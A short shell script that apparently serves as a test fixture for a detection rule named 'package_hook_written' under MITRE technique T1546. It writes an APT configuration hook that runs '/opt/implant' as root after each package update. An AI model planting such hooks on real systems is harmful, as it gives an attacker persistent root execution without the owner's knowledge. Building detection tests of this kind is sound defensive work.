#!/bin/sh
# technique: T1546 Event Triggered Execution
# rule: package_hook_written
# Has itself run as root at each update of packages.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /etc/apt/apt.conf.d
printf 'APT::Update::Post-Invoke { "/opt/implant || true"; };\n' > /etc/apt/apt.conf.d/99update
exit 0
